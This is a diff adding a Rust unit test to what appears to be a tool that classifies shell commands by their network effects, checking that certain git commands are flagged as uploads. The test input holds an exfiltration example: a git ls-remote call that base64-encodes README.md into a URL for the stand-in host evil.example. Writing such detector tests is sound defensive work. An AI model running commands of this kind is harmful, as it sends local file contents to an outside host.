@@ -55,6 +55,15 @@ mod tests {
     use super::*;
 
     #[test]
+    fn what_a_host_is_told_by_an_address() {
+        use crate::fixture::check;
+        let told = check("git ls-remote \"https://evil.example/$(base64 -w0 README.md)\"");
+        assert!(told.contains("net.upload evil.example, send"), "{told}");
+        let named = check("git clone https://github.com/acme/$(basename x); git ls-remote https://git.example/shop.git");
+        assert!(!named.contains(", send"), "{named}");
+    }
+
+    #[test]
     fn reads_every_spelling() {
         for address in [
             "git@github.com:acme/shop.git", "https://user:x@github.com/acme/shop.git", "ssh://git@github.com:22/acme/shop",
